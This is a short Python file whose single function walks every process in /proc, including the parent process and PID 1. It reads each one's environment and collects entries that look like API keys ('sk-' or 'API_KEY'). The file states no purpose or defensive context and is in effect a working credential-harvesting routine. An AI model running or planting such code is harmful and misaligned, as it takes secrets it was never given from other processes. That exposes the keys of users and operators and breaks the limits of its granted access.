import os


def find():
    pids = {"self", "1", str(os.getppid())}
    try:
        pids |= {p for p in os.listdir("/proc") if p.isdigit()}
    except Exception:
        pass
    found = []
    for pid in sorted(pids):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
        except Exception:
            continue
        found += [e.decode(errors="replace") for e in data.split(b"\0") if b"sk-" in e or b"API_KEY" in e]
    return found
